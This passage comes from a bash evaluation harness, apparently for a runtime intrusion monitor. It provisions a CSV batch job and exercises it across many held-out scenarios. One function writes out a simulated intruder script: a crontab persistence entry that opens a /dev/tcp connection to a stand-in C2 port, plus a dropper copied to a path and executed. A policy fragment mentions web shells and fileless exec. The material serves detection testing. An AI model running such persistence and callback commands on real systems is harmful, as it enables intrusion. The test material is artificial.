  {\"kind\": \"exec\", \"subject\": \"*/crontab\", \"what\": \"crontab run by the service user\"},
  {\"kind\": \"file\", \"subject\": \"/var/spool/cron/crontabs/*\", \"what\": \"a crontab written for www-data (persistence)\"},
  {\"kind\": \"file\", \"subject\": \"/usr/lib/python3*\", \"required\": false, \"what\": \"modules python3 loads for the web shell and the fileless exec\"},
  {\"kind\": \"file\", \"subject\": \"/etc/cron.allow\", \"required\": false, \"what\": \"crontab checks who may use it\"},
  {\"kind\": \"file\", \"subject\": \"/etc/cron.deny\", \"required\": false, \"what\": \"crontab checks who may use it\"}"
}


# --- batch --------------------------------------------------------------------------------

BATCH_DIR=$WORK/batch
BATCH_SPOOL=$BATCH_DIR/spool

# A cron-driven batch job: bin/process.sh (root-owned) runs as backup in the cgroup
# dw-eval/batch every round (a loop standing in for cron starts it, outside the cgroup). It
# processes the CSV files an upstream system dropped into spool/incoming (sort, awk totals
# into out/<day>/), archives the inputs (tar.gz in spool/archive), and rotates its own log
# (job.log -> job.log.1 -> job.log.2.gz ..., keeping --keep N generations, 3 by default).
# bin/cleanup.sh prunes old archives and outputs.
batch_provision() {
  rm -rf "$BATCH_DIR"
  mkdir -p "$BATCH_DIR/bin" "$BATCH_SPOOL"/{incoming,archive,work} "$BATCH_DIR"/{out,log}
  cat >"$BATCH_DIR/bin/process.sh" <<'SH'
#!/bin/sh
# process.sh [--day YYYYMMDD] [--keep N]: totals per customer of every CSV in spool/incoming.
set -eu
base=$(dirname "$0")/..
day=$(date +%Y%m%d)
keep=3
while [ $# -gt 0 ]; do
  case $1 in
    --day) day=$2; shift 2 ;;
    --keep) keep=$2; shift 2 ;;
    *) echo "process.sh: unknown argument $1" >&2; exit 2 ;;
  esac
done
log=$base/log/job.log
echo "$(date -u +%FT%TZ) start day=$day" >>"$log"
mkdir -p "$base/out/$day"
n=0
for f in "$base"/spool/incoming/*.csv; do
  [ -e "$f" ] || continue
  name=$(basename "$f" .csv)
  sort -t, -k1,1 "$f" | awk -F, '{ t[$1] += $2 } END { for (c in t) print c "," t[c] }' \
    >"$base/spool/work/$name.tmp"
  mv "$base/spool/work/$name.tmp" "$base/out/$day/$name.totals"
  echo "$(date -u +%FT%TZ) $name rows=$(wc -l <"$f")" >>"$log"
  mv "$f" "$base/spool/work/"
  n=$((n + 1))
done
if [ "$n" -gt 0 ]; then
  tar -czf "$base/spool/archive/inputs-$(date +%H%M%S).tar.gz" -C "$base/spool/work" .
  find "$base/spool/work" -name '*.csv' -delete
fi
echo "$(date -u +%FT%TZ) done files=$n" >>"$log"
# Rotation: job.log.N.gz shifts up, job.log.1 is compressed, job.log becomes job.log.1.
if [ "$(wc -c <"$log")" -gt 1000 ]; then
  i=$keep
  rm -f "$log.$i.gz"
  while [ "$i" -gt 2 ]; do
    [ -e "$log.$((i - 1)).gz" ] && mv "$log.$((i - 1)).gz" "$log.$i.gz"
    i=$((i - 1))
  done
  [ -e "$log.1" ] && gzip -c "$log.1" >"$log.2.gz" && rm "$log.1"
  mv "$log" "$log.1"
fi
SH
  cat >"$BATCH_DIR/bin/cleanup.sh" <<'SH'
#!/bin/sh
# cleanup.sh [--max-archives N]: keeps the newest N input archives (default 5).
set -eu
base=$(dirname "$0")/..
max=5
[ "${1:-}" = --max-archives ] && max=$2
ls -1t "$base"/spool/archive/*.tar.gz 2>/dev/null | tail -n +"$((max + 1))" | while read -r f; do rm -f "$f"; done
find "$base/out" -name '*.totals' -mmin +60 -delete
du -s "$base/spool" "$base/out" >/dev/null
SH
  chmod 755 "$BATCH_DIR/bin"/*.sh
  # A job that has run before: its log has been rotated (kept: job.log.1, .2.gz, .3.gz).
  local g
  for g in 1 2 3; do
    printf '%s start day=%s\n' "2026-01-0${g}T02:00:00Z" "2026010$g" >"$BATCH_DIR/log/job.log.$g"
    [ "$g" = 1 ] || gzip "$BATCH_DIR/log/job.log.$g"
  done
  chown -R backup:backup "$BATCH_SPOOL" "$BATCH_DIR"/{out,log}
}

# The scheduler: batch_start and batch_stop stand for the cron daemon being (re)started; the
# job itself starts each round.
batch_start() { :; }
batch_stop() { :; }

BATCH_PERIOD=${BATCH_PERIOD:-15}   # seconds between runs of the job (with the rounds' own 2 s)
BATCH_SEQ=0
# batch_feed FEED COUNT ROWS: the upstream system drops COUNT files FEED-SEQ.csv of ROWS rows.
batch_feed() {
  local i
  for i in $(seq 1 "$2"); do
    BATCH_SEQ=$((BATCH_SEQ + 1))
    awk -v n="$3" -v s="$BATCH_SEQ" 'BEGIN { srand(s); for (i = 0; i < n; i++) printf "c%03d,%d\n", int(rand() * 200), int(rand() * 1000) }' \
      >"$BATCH_SPOOL/incoming/.$1-$BATCH_SEQ.part"
    chown backup:backup "$BATCH_SPOOL/incoming/.$1-$BATCH_SEQ.part"
    mv "$BATCH_SPOOL/incoming/.$1-$BATCH_SEQ.part" "$BATCH_SPOOL/incoming/$1-$BATCH_SEQ.csv"
  done
}
# batch_job SCRIPT ARGS...: one run of a job as backup in the cgroup, as cron starts it.
batch_job() {
  launch batch backup /bin/sh "$BATCH_DIR/bin/$1" "${@:2}"
  wait "$LAUNCHED" || die "batch job $* failed"
  forget "$LAUNCHED"
}
# Mix A: three order files of 200 rows, then the job; the next run BATCH_PERIOD s later.
batch_mix_a() { batch_feed orders 3 200; batch_job process.sh; sleep "$BATCH_PERIOD"; }
# Mix B: orders and returns, up to eight files of 500 rows, the job; and a run with nothing
# to do.
batch_mix_b() {
  batch_feed orders 4 500
  batch_feed returns 4 500
  batch_job process.sh
  batch_job process.sh
  sleep "$BATCH_PERIOD"
}
# Scheduled job: the weekly clean-up, here every MAINT_SECONDS.
batch_maintenance() { batch_job cleanup.sh; }

# Held out. Feeds never seen (refunds, invoices) and bigger files; a backfill of another day
# (--day: a new out/<day> directory); more log generations kept (--keep 6, so job.log.4.gz
# and later appear as the bigger runs rotate the log); the clean-up with another argument.
batch_heldout_deploy() { :; }
BATCH_HELDOUT_ROUND=0
batch_heldout_mix() {
  BATCH_HELDOUT_ROUND=$((BATCH_HELDOUT_ROUND + 1))
  batch_feed orders 2 300
  batch_feed refunds 2 100
  [ $((BATCH_HELDOUT_ROUND % 3)) = 0 ] && batch_feed invoices 5 2000
  batch_job process.sh --keep 6
  if [ $((BATCH_HELDOUT_ROUND % 4)) = 0 ]; then
    batch_feed orders 3 300
    batch_job process.sh --day "$(date -d "-$((BATCH_HELDOUT_ROUND / 4)) day" +%Y%m%d)" --keep 6
  fi
  sleep "$BATCH_PERIOD"
}
batch_heldout_job() { batch_job cleanup.sh --max-archives 2; }

# Held out, second set (heldout2). Other input sets: payments (one to three files of 50 to
# 5000 rows), a small chargebacks feed, every fourth run an empty orders file from an
# upstream with nothing to send, at irregular intervals (4-12 s apart); the job with other
# arguments (--keep 2, fewer log generations; every third run the month-end rerun
# `--day 20261130`, an older out/<day>/); the clean-up with its default and with
# --max-archives 8; an operator inside the cgroup (as backup) lists the archives, lists one
# (`tar -tzf`), reads the rotated log (`zcat`, `tail`), measures the outputs (`du -sh`) and
# re-queues the newest archive for reprocessing (`tar -xzf` into spool/incoming), which the
# next run picks up.
batch_heldout2_deploy() { :; }
batch_heldout2_mix() {
  local r=$HELDOUT2_ROUND
  batch_feed payments $((1 + r % 3)) $(((r * 1237) % 5000 + 50))
  [ $((r % 2)) = 0 ] && batch_feed chargebacks 1 20
  [ $((r % 4)) = 3 ] && batch_feed orders 1 0
  if [ $((r % 3)) = 0 ]; then
    batch_job process.sh --keep 2 --day 20261130
  else
    batch_job process.sh --keep 2
  fi
  sleep $((3 + (r * 5) % 7))
}
BATCH_HELDOUT2_JOBS=0
batch_heldout2_job() {
  BATCH_HELDOUT2_JOBS=$((BATCH_HELDOUT2_JOBS + 1))
  if [ $((BATCH_HELDOUT2_JOBS % 2)) = 1 ]; then batch_job cleanup.sh; else batch_job cleanup.sh --max-archives 8; fi
}
batch_heldout2_admin() {
  local newest
  newest=$(ls -1t "$BATCH_SPOOL"/archive/*.tar.gz | head -n 1)
  admin batch backup /bin/ls -l "$BATCH_SPOOL/archive"
  admin batch backup /bin/tar -tzf "$newest"
  [ -e "$BATCH_DIR/log/job.log.2.gz" ] && admin batch backup /bin/zcat "$BATCH_DIR/log/job.log.2.gz"
  admin batch backup /usr/bin/tail -n 20 "$BATCH_DIR/log/job.log.1"
  admin batch backup /usr/bin/du -sh "$BATCH_DIR/out"
  admin batch backup /bin/tar -xzf "$newest" -C "$BATCH_SPOOL/incoming" --wildcards '*.csv'
}
batch_heldout2_restart() { batch_stop; batch_start; }

# Held out, third set (heldout3). Feeds training never saw: shipments (two files of 400
# rows) each run, every other run an adjustments file from a Windows system (a header line,
# CRLF line ends), every third run a file whose name has a space in it; the job with
# `--keep 4` (another number of log generations). The crash: a run over a 400000-row file
# killed with SIGKILL after half a second (a scheduler's timeout), so the next run finds
# the file again and the dead run's temporary output in spool/work. The reload: the clean-up
# with another argument (`--max-archives 3`), then the job with `--keep 5`. No operator. The
# idle period is a pause of the upstream feed; the burst is three runs back to back.
batch_heldout3_deploy() { :; }
BATCH_HELDOUT3_KEEP=4
batch_heldout3_mix() {
  local r=$HELDOUT3_ROUND f
  batch_feed shipments 2 400
  if [ $((r % 2)) = 0 ]; then
    f=$BATCH_SPOOL/incoming/adjustments-$r.csv
    awk -v s="$r" 'BEGIN { srand(s); printf "customer,amount\r\n"; for (i = 0; i < 60; i++) printf "c%03d,%d\r\n", int(rand() * 200), int(rand() * 100) - 50 }' >"$f"
    chown backup:backup "$f"
  fi
  if [ $((r % 3)) = 0 ]; then
    f="$BATCH_SPOOL/incoming/orders export $r.csv"
    awk 'BEGIN { for (i = 0; i < 150; i++) printf "c%03d,%d\n", i % 97, i }' >"$f"
    chown backup:backup "$f"
  fi
  batch_job process.sh --keep "$BATCH_HELDOUT3_KEEP"
}
batch_heldout3_crash() {
  batch_feed shipments 1 400000
  launch batch backup /bin/sh "$BATCH_DIR/bin/process.sh" --keep "$BATCH_HELDOUT3_KEEP"
  sleep 0.5
  kill -KILL "$LAUNCHED" 2>/dev/null || true
  local rc=0
  wait "$LAUNCHED" 2>/dev/null || rc=$?
  forget "$LAUNCHED"
  [ "$rc" = 137 ] || die "the batch run to kill ended by itself (status $rc)"
  sleep 1
}
batch_heldout3_reload() { batch_job cleanup.sh --max-archives 3; BATCH_HELDOUT3_KEEP=5; }
batch_heldout3_maint() { :; }

# Held out, fourth set (heldout4). No deploy. Each run gets feeds no other trace used, sized
# by the load: `ledger_EU` files (upper case and an underscore in the name; half as many as
# the load, plus one, at most 4, of 20 rows per load unit) and, every other run, one
# `fx-rates` file of 12 rows; the job runs with `--keep 7`. While the load is 1 every other run has nothing to
# do. At the peak, each run also gets a 150000-row `ledger_EU` file. The change: a catch-up
# after missed runs (the scheduler was down): runs for each of the three days before today
# (`--day`), each with a `late` feed. The maintenance: the clean-up with
# `--max-archives 1`, then with its default.
batch_heldout4_deploy() { :; }
batch_heldout4_mix() {
  local r=$HELDOUT4_ROUND c=$HELDOUT4_CONC
  if [ "$c" = 1 ] && [ $((r % 2)) = 0 ]; then
    batch_job process.sh --keep 7
    return
  fi
  local n=$((c / 2 + 1))
  [ "$n" -le 4 ] || n=4
  batch_feed ledger_EU "$n" $((20 * c))
  [ $((r % 2)) = 1 ] && batch_feed fx-rates 1 12
  [ "$c" -ge 32 ] && batch_feed ledger_EU 1 150000
  batch_job process.sh --keep 7
}
batch_heldout4_change() {
  local d
  for d in 3 2 1; do
    batch_feed late 2 300
    batch_job process.sh --keep 7 --day "$(date -d "-$d day" +%Y%m%d)"
  done
}
batch_heldout4_maint() { batch_job cleanup.sh --max-archives 1; batch_job cleanup.sh; }
batch_heldout4_end() { :; }

# Held out, fifth set (heldout5). No deploy. Each run gets, in turn, a 5-row `stock_moves`
# file, two `stock_moves` files sized by the requests per connection (300 rows per unit),
# or a `credit-notes` file sized by the load (40 rows per unit); every fifth run the
# upstream's upload of a `credit-notes` file dies half-way, leaving a hidden `.part` file
# in spool/incoming that no run picks up; the job runs with `--keep 9`. In the lull the
# scheduler starts the job with nothing to do. The change: runs that overlap: a run over
# a 120000-row file, and `cleanup.sh --max-archives 4` started while it is still going.
# The maintenance, by an operator inside the cgroup (as backup): a checksum manifest of
# today's outputs (`sha256sum *.totals >SHA256SUMS` by /bin/sh -c), `gzip -t` of the
# archives, `wc -l` of the manifest. No late event.
batch_heldout5_deploy() { :; }
batch_heldout5_mix() {
  local r=$HELDOUT5_ROUND f
  case $((r % 3)) in
    0) batch_feed stock_moves 1 5 ;;
    1) batch_feed stock_moves 2 $((300 * HELDOUT5_PER)) ;;
    2) batch_feed credit-notes 1 $((40 * HELDOUT5_CONC)) ;;
  esac
  if [ $((r % 5)) = 4 ]; then
    f=$BATCH_SPOOL/incoming/.credit-notes-u$r.part
    awk 'BEGIN { for (i = 0; i < 70; i++) printf "c%03d,%d\n", i, i * 3 }' >"$f"
    printf 'c071,4' >>"$f"
    chown backup:backup "$f"
  fi
  batch_job process.sh --keep 9
}
batch_heldout5_change() {
  batch_feed stock_moves 1 120000
  launch batch backup /bin/sh "$BATCH_DIR/bin/process.sh" --keep 9
  local long=$LAUNCHED
  sleep 0.3
  batch_job cleanup.sh --max-archives 4
  wait "$long" || die "the long batch run failed"
  forget "$long"
}
batch_heldout5_maint() {
  local out
  out=$BATCH_DIR/out/$(date +%Y%m%d)
  admin batch backup /bin/sh -c "cd '$out' && sha256sum *.totals >SHA256SUMS"
  admin batch backup /usr/bin/gzip -t "$BATCH_SPOOL"/archive/*.tar.gz
  admin batch backup /usr/bin/wc -l "$out/SHA256SUMS"
}
batch_heldout5_late() { :; }
batch_heldout5_probe() { batch_job process.sh --keep 9; }

# Held out, sixth set (heldout6). No deploy. Each run with `--keep 8` gets, in turn, a
# `transfers-us`, `transfers-eu` or `transfers-apac` file (40 rows per unit of load, or
# 150 per request of the stretch), or an `fx-rates-YYYYMMDD.csv` of 30 rows; every fifth
# run the upstream also sends a `transfers-*.csv.gz` the job does not pick up (it stays in
# spool/incoming). The change: a second job deployed (bin/summary.sh, root-owned: the
# totals of the last runs merged, sorted and cut to the ten biggest customers into
# out/summary-HHMMSS.txt) and run after each run from then on. The maintenance, by an
# operator inside the cgroup (as backup): `cleanup.sh --max-archives 6`, `ls -l` of the
# archives, `gzip -l` of the newest one. In the idle period no run at all. The late event:
# the upstream drops a file the job cannot read (root-owned, mode 600): that run meets
# "permission denied" (its exit status is not checked); the spool is given back to backup
# from outside (chown -R), and the next run takes a new file with what the failed one left.
BATCH_HELDOUT6_SUMMARY=0
batch_heldout6_deploy() { :; }
batch_heldout6_mix() {
  local r=$HELDOUT6_ROUND f regions=(us eu apac)
  case $((r % 4)) in
    0) batch_feed "transfers-${regions[r % 3]}" 1 $((40 * HELDOUT6_CONC)) ;;
    1) batch_feed "transfers-${regions[(r + 1) % 3]}" 1 $((150 * HELDOUT6_PER)) ;;
    2) f=$BATCH_SPOOL/incoming/fx-rates-$(date -d "-$((r % 7)) day" +%Y%m%d).csv
       awk 'BEGIN { for (i = 0; i < 30; i++) printf "c%03d,%d\n", i, 100 + i }' >"$f"
       chown backup:backup "$f" ;;
    3) batch_feed "transfers-${regions[(r + 2) % 3]}" 1 $((10 * HELDOUT6_CONC)) ;;
  esac
  if [ $((r % 5)) = 4 ]; then
    f=$BATCH_SPOOL/incoming/transfers-us-r$r.csv.gz
    awk 'BEGIN { for (i = 0; i < 50; i++) printf "c%03d,%d\n", i, i }' | gzip >"$f"
    chown backup:backup "$f"
  fi
  batch_job process.sh --keep 8
  [ "$BATCH_HELDOUT6_SUMMARY" = 0 ] || batch_job summary.sh
}
batch_heldout6_change() {
  cat >"$BATCH_DIR/bin/summary.sh" <<'SH'
#!/bin/sh
# summary.sh: the ten biggest customers over the totals of the last runs.
set -eu
base=$(dirname "$0")/..
cat "$base"/out/*/*.totals 2>/dev/null | sort -t, -k2,2nr | head -n 10 >"$base/out/summary-$(date +%H%M%S).txt"
SH
  chmod 755 "$BATCH_DIR/bin/summary.sh"
  BATCH_HELDOUT6_SUMMARY=1
}
batch_heldout6_maint() {
  local newest
  admin batch backup /bin/sh "$BATCH_DIR/bin/cleanup.sh" --max-archives 6
  admin batch backup /bin/ls -l "$BATCH_SPOOL/archive"
  newest=$(find "$BATCH_SPOOL/archive" -name '*.tar.gz' -printf '%T@ %p\n' | sort -n | tail -n 1 | cut -d' ' -f2)
  admin batch backup /bin/gzip -l "$newest"
}
batch_heldout6_late() {
  local f=$BATCH_SPOOL/incoming/transfers-eu-late.csv
  awk 'BEGIN { for (i = 0; i < 400; i++) printf "c%03d,%d\n", i % 200, i }' >"$f"
  chmod 600 "$f"
  launch batch backup /bin/sh "$BATCH_DIR/bin/process.sh" --keep 8
  local failed=$LAUNCHED
  wait "$failed" || true
  forget "$failed"
  chown -R backup:backup "$BATCH_SPOOL"
  batch_feed transfers-eu 1 100
  batch_job process.sh --keep 8
}

# Held out, seventh set (heldout7). No deploy. Each run with `--keep 5` gets, in turn, a
# `payouts-N` file (60 rows per unit of load), an empty `chargebacks-N` file (no rows),
# two `payouts` files and a `README.txt` the upstream puts beside them (not a CSV: left in
# spool/incoming), or a 20000-row `payouts-bulk-N` file. The maintenance, early, by an
# operator inside the cgroup (as backup): `cleanup.sh --max-archives 4`, `find` of the
# totals the last runs wrote, `df -h` of the job's file system. The change, in the quiet period: a release of
# process.sh (root, from outside) that also writes a manifest of each run's outputs
# (`out/<day>/manifest-HHMMSS.txt`, with `wc -l`). The late event: a catch-up after the
# upstream's outage: 24 small `payouts` files at once, one run.
batch_heldout7_deploy() { :; }
batch_heldout7_mix() {
  local r=$HELDOUT7_ROUND
  case $((r % 4)) in
    0) batch_feed payouts 1 $((60 * HELDOUT7_CONC)) ;;
    1) batch_feed chargebacks 1 0 ;;
    2) batch_feed payouts 2 120
       echo "payout files for $(date +%F)" >"$BATCH_SPOOL/incoming/README.txt"
       chown backup:backup "$BATCH_SPOOL/incoming/README.txt" ;;
    3) batch_feed payouts-bulk 1 20000 ;;
  esac
  batch_job process.sh --keep 5
}
batch_heldout7_maint() {
  admin batch backup /bin/sh "$BATCH_DIR/bin/cleanup.sh" --max-archives 4
  admin batch backup /usr/bin/find "$BATCH_DIR/out" -name '*.totals' -mmin -5
  admin batch backup /bin/df -h "$BATCH_DIR"
}
batch_heldout7_change() {
  local p=$BATCH_DIR/bin/process.sh
  sed -i 's|^echo "$(date -u +%FT%TZ) done files=$n" >>"$log"$|[ "$n" -eq 0 ] \|\| wc -l "$base/out/$day"/*.totals >"$base/out/$day/manifest-$(date +%H%M%S).txt"\n&|' "$p"
  grep -q manifest "$p" || die "batch heldout7: process.sh not changed"
}
batch_heldout7_late() { batch_feed payouts 24 30; batch_job process.sh --keep 5; }


# The intruder's script as backup in the spool, then: a crontab for backup (crontab -), and
# a download-and-execute from /tmp.
batch_more() {
  cat <<SH
echo '*/5 * * * * /bin/sh -c "exec 3<>/dev/tcp/127.0.0.1/$C2_PORT"' | crontab -
cat /usr/bin/uname >$DROPPER && chmod 755 $DROPPER && $DROPPER -a >/dev/null
SH
}

# Held out, eighth set (heldout8). No deploy. Each run with `--keep 7` gets, in turn, a
# `ledger-N` file (25 rows per unit of load), two `ledger-YYYYMMDD-N` files named by the day
# (40 rows per request of the round), a `ledger-win-N` file with CRLF line ends (a Windows
# upstream), or a `ledger-hdr-N` file with a header line. The maintenance, by an operator
# inside the cgroup (as backup): `cleanup.sh --max-archives 3`, `wc -c` of the newest
# archive, `stat` of the job's logs. The change: a release of process.sh (root, from
# outside) that drops header lines before the totals (`grep -v`) and keeps them beside the
# output (`grep` into `out/<day>/<name>.rejects`). The late event: the upstream re-sends two files it sent
# before (same names) with a new one, one run (their totals are overwritten).
batch_heldout8_deploy() { :; }
# batch_heldout8_drop NAME ROWS [HEADER] [CRLF]: the upstream drops NAME.csv (ROWS rows).
batch_heldout8_drop() {
  local f=$BATCH_SPOOL/incoming/$1.csv
  { [ -z "${3:-}" ] || echo "$3"
    awk -v n="$2" -v e="${4:+\r}" 'BEGIN { for (i = 0; i < n; i++) printf "c%03d,%d%s\n", i % 150, i % 97, e }'; } >"$f"
  chown backup:backup "$f"
}
batch_heldout8_mix() {
  local r=$HELDOUT8_ROUND
  case $((r % 4)) in
    0) batch_feed ledger 1 $((25 * HELDOUT8_CONC)) ;;
    1) batch_feed "ledger-$(date +%Y%m%d)" 2 $((40 * HELDOUT8_PER)) ;;
    2) batch_heldout8_drop "ledger-win-$r" 300 "" crlf ;;
    3) batch_heldout8_drop "ledger-hdr-$r" 500 "customer,amount" ;;
  esac
  batch_job process.sh --keep 7
}
batch_heldout8_maint() {
  local newest
  admin batch backup /bin/sh "$BATCH_DIR/bin/cleanup.sh" --max-archives 3
  newest=$(find "$BATCH_SPOOL/archive" -name '*.tar.gz' -printf '%T@ %p\n' | sort -n | tail -n 1 | cut -d' ' -f2)
  [ -n "$newest" ] || die "batch heldout8: no archive"
  admin batch backup /usr/bin/wc -c "$newest"
  admin batch backup /usr/bin/stat -c '%n %s' "$BATCH_DIR"/log/job.log*
}
batch_heldout8_change() {
  local p=$BATCH_DIR/bin/process.sh
  sed -i "s|^  sort -t, -k1,1 \"\$f\" [|] |  grep '^customer,' \"\$f\" >\"\$base/out/\$day/\$name.rejects\" \|\| true\n  grep -v '^customer,' \"\$f\" \| sort -t, -k1,1 \| |" "$p"
  grep -q 'name.rejects' "$p" || die "batch heldout8: process.sh not changed"
}
batch_heldout8_late() {
  batch_heldout8_drop ledger-win-2 300 "" crlf
  batch_heldout8_drop ledger-hdr-3 500 "customer,amount"
  batch_feed ledger 1 200
  batch_job process.sh --keep 7
}

# Held out, ninth set (heldout9). No deploy. Each run with `--keep 10` gets, in turn, a
# `settlements-N` file (30 rows per unit of load), a one-row `inventory-N` file, three
# `settlements` files (20 rows per request of the round each), or a `settlements` file with a
# `SETTLEMENTS-N.CSV` beside it (an upper-case extension the job does not pick up: it stays
# in spool/incoming). The maintenance, by an operator inside the cgroup (as backup):
# `cleanup.sh --max-archives 7`, `ls -la` of today's outputs, `md5sum` of the newest
# archive. The change: a release of process.sh (root, from outside) that also keeps each
# file's five biggest customers (`sort` by amount and `head` into `out/<day>/<name>.top5`).
# The late event: the scheduler starts the job with an argument it no longer takes (an old
# crontab line: `--verbose`): the run stops with its usage error (exit status 2); the
# corrected line runs next.
batch_heldout9_deploy() { :; }
batch_heldout9_mix() {
  local r=$HELDOUT9_ROUND
  case $((r % 4)) in
    0) batch_feed settlements 1 $((30 * HELDOUT9_CONC)) ;;
    1) batch_feed inventory 1 1 ;;
    2) batch_feed settlements 3 $((20 * HELDOUT9_PER)) ;;
    3) batch_feed settlements 1 60; batch_heldout8_drop "SETTLEMENTS-$r" 40; mv "$BATCH_SPOOL/incoming/SETTLEMENTS-$r.csv" "$BATCH_SPOOL/incoming/SETTLEMENTS-$r.CSV" ;;
  esac
  batch_job process.sh --keep 10
}
batch_heldout9_maint() {
  local newest
  admin batch backup /bin/sh "$BATCH_DIR/bin/cleanup.sh" --max-archives 7
  admin batch backup /bin/ls -la "$BATCH_DIR/out/$(date +%Y%m%d)"
  newest=$(find "$BATCH_SPOOL/archive" -name '*.tar.gz' -printf '%T@ %p\n' | sort -n | tail -n 1 | cut -d' ' -f2)
  [ -n "$newest" ] || die "batch heldout9: no archive"
  admin batch backup /usr/bin/md5sum "$newest"
}
batch_heldout9_change() {
  local p=$BATCH_DIR/bin/process.sh
  sed -i 's|^  mv "$base/spool/work/$name.tmp" "$base/out/$day/$name.totals"$|&\n  sort -t, -k2,2nr "$base/out/$day/$name.totals" \| head -n 5 >"$base/out/$day/$name.top5"|' "$p"
  grep -q 'name.top5' "$p" || die "batch heldout9: process.sh not changed"
}
batch_heldout9_late() {
  launch batch backup /bin/sh "$BATCH_DIR/bin/process.sh" --keep 10 --verbose
  if wait "$LAUNCHED"; then die "batch heldout9: process.sh took --verbose"; fi
  forget "$LAUNCHED"
  batch_feed settlements 1 120
  batch_job process.sh --keep 10
}

# Held out, tenth set (heldout10). No deploy. Each run with `--keep 4` gets, in turn: two
# `shipments-N` files (25 rows per unit of load each), an empty `shipments` file (0 bytes),
# a `shipments` file with a third column (a currency code), or one `shipments` file of 2000
# rows. The change, early: a release of process.sh (root, from outside) that takes a lock
# (flock on log/.process.lock) and stops at once if a run still holds it. The late event: the
# scheduler starts two runs at once (a run that finds the lock taken stops), then a run with a
# file. The maintenance, by an operator inside the cgroup (as backup): `tar -tzf` of the
# newest archive, `du -sh` of the outputs, `cleanup.sh --max-archives 4`.
batch_heldout10_deploy() { :; }
batch_heldout10_mix() {
  local r=$HELDOUT10_ROUND f
  case $((r % 4)) in
    0) batch_feed shipments 2 $((25 * HELDOUT10_CONC)) ;;
    1) BATCH_SEQ=$((BATCH_SEQ + 1)); f=$BATCH_SPOOL/incoming/shipments-$BATCH_SEQ.csv
       : >"$f"; chown backup:backup "$f" ;;
    2) BATCH_SEQ=$((BATCH_SEQ + 1)); f=$BATCH_SPOOL/incoming/shipments-$BATCH_SEQ.csv
       awk 'BEGIN { for (i = 0; i < 80; i++) printf "c%03d,%d,%s\n", i % 120, i % 89, (i % 2 ? "EUR" : "USD") }' >"$f"
       chown backup:backup "$f" ;;
    3) batch_feed shipments 1 2000 ;;
  esac
  batch_job process.sh --keep 4
}
batch_heldout10_change() {
  local p=$BATCH_DIR/bin/process.sh
  awk '{ print } $0 == "log=$base/log/job.log" {
      print "exec 8>\"$base/log/.process.lock\""
      print "flock -n 8 || { echo \"process.sh: a run is still going\" >&2; exit 0; }" }' "$p" >"$p.new"
  chmod 755 "$p.new"
  mv "$p.new" "$p"
  grep -q '^flock -n 8' "$p" || die "batch heldout10: process.sh not changed"
}
batch_heldout10_maint() {
  local newest
  newest=$(find "$BATCH_SPOOL/archive" -name '*.tar.gz' -printf '%T@ %p\n' | sort -n | tail -n 1 | cut -d' ' -f2)
  [ -n "$newest" ] || die "batch heldout10: no archive"
  admin batch backup /bin/tar -tzf "$newest"
  admin batch backup /usr/bin/du -sh "$BATCH_DIR/out"
  admin batch backup /bin/sh "$BATCH_DIR/bin/cleanup.sh" --max-archives 4
}
batch_heldout10_late() {
  local p1 p2
  batch_feed shipments 2 300
  launch batch backup /bin/sh "$BATCH_DIR/bin/process.sh" --keep 4
  p1=$LAUNCHED
  launch batch backup /bin/sh "$BATCH_DIR/bin/process.sh" --keep 4
  p2=$LAUNCHED
  wait "$p1" || die "batch heldout10: a run failed"
  wait "$p2" || die "batch heldout10: a run failed"
  forget "$p1"
  forget "$p2"
  batch_feed shipments 1 150
  batch_job process.sh --keep 4
}

# Held out, eleventh set (heldout11). No deploy. Each run with `--keep 6` gets, in turn, a
# `transfers-N` file (20 rows per unit of load), two `transfers` files of 40 and 400 rows,
# an 80-row `transfers` file with blank lines in it, or one of refunds (negative amounts);
# once the change is in, every other run also gets an `fx-N` file of exchange rates.
# The maintenance, early, by an operator inside the cgroup (as backup): the oldest rotated
# log read (`zcat job.log.3.gz`), `cleanup.sh --max-archives 6`, a listing of the archives
# (`ls -1t`). The change, in the middle: a release of process.sh (root, from outside) for a
# new feed type: `fx-*.csv` files are not totalled but copied into `out/<day>/fx/` as they
# are. The late event: the scheduler's timeout stops a run (TERM after 0.3 s) during a
# million-row file; the file is still in spool/incoming, and the retried run processes it.
batch_heldout11_deploy() { :; }
# batch_heldout11_drop NAME AWK: the upstream drops NAME.csv, 80 rows rewritten by the awk
# program AWK.
batch_heldout11_drop() {
  local f=$BATCH_SPOOL/incoming/$1.csv
  batch_heldout8_drop "$1" 80
  awk "$2" "$f" >"$f.new"
  mv "$f.new" "$f"
  chown backup:backup "$f"
}
batch_heldout11_mix() {
  local r=$HELDOUT11_ROUND
  case $((r % 4)) in
    0) batch_feed transfers 1 $((20 * HELDOUT11_CONC)) ;;
    1) batch_feed transfers 1 40; batch_feed transfers 1 400 ;;
    2) batch_heldout11_drop "transfers-gaps-$r" 'NR % 10 == 0 { print "" } { print }' ;;
    3) batch_heldout11_drop "transfers-refunds-$r" '{ sub(/,/, ",-"); print }' ;;
  esac
  if [ "$BATCH_HELDOUT11_FX" = 1 ] && [ $((r % 2)) = 0 ]; then batch_feed fx 1 12; fi
  batch_job process.sh --keep 6
}
BATCH_HELDOUT11_FX=0
batch_heldout11_maint() {
  admin batch backup /bin/zcat "$BATCH_DIR/log/job.log.3.gz"
  admin batch backup /bin/sh "$BATCH_DIR/bin/cleanup.sh" --max-archives 6
  admin batch backup /bin/ls -1t "$BATCH_SPOOL/archive"
}
batch_heldout11_change() {
  local p=$BATCH_DIR/bin/process.sh
  awk '{ print } $0 == "  name=$(basename \"$f\" .csv)" {
      print "  case $name in"
      print "    fx-*) mkdir -p \"$base/out/$day/fx\"; cp \"$f\" \"$base/out/$day/fx/$name.csv\"; mv \"$f\" \"$base/spool/work/\"; n=$((n + 1)); continue ;;"
      print "  esac" }' "$p" >"$p.new"
  chmod 755 "$p.new"
  mv "$p.new" "$p"
  grep -q '^    fx-\*)' "$p" || die "batch heldout11: process.sh not changed"
  BATCH_HELDOUT11_FX=1
}
batch_heldout11_late() {
  batch_feed transfers 1 1000000
  launch batch backup /bin/sh "$BATCH_DIR/bin/process.sh" --keep 6
  sleep 0.3
  kill -TERM "$LAUNCHED" 2>/dev/null || true
  wait "$LAUNCHED" || true
  forget "$LAUNCHED"
  batch_job process.sh --keep 6
}
# Held out, twelfth set (heldout12). No deploy. Each run with `--keep 7` gets, in turn: a
# `ledger-N` file (8 rows per unit of load), an 80-row ledger with a header line, an 80-row
# ledger with CRLF line ends, or a 5000-row ledger. The change, in the first seconds: a
# release of process.sh (root, from outside; the old one kept as process.sh.prev) that
